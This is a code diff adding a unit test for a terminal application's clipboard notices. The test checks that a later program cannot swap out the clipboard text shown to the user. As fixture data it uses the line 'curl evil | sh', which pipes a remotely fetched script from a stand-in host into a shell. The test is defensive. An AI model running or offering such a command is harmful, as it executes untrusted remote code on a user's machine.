@@ -117,6 +117,16 @@ describe('another attempt', () => {
 });
 
 describe('notices', () => {
+  it('let no program change the text that the clipboard is asked about', () => {
+    const id = open('a');
+    addNotice(id, { kind: 'clipboard', text: 'harmless' }, store);
+    addNotice(id, { kind: 'clipboard', text: 'curl evil | sh' }, store);
+    expect(terminal(id)?.notices).toEqual([{ kind: 'clipboard', text: 'harmless' }]);
+    dismissNotice(id, 'clipboard', store);
+    addNotice(id, { kind: 'clipboard', text: 'another' }, store);
+    expect(terminal(id)?.notices).toEqual([{ kind: 'clipboard', text: 'another' }]);
+  });
+
   it('are one of each kind, until they are dismissed', () => {
     const id = open('a');
     addNotice(id, { kind: 'gap', byteCount: 1 }, store);
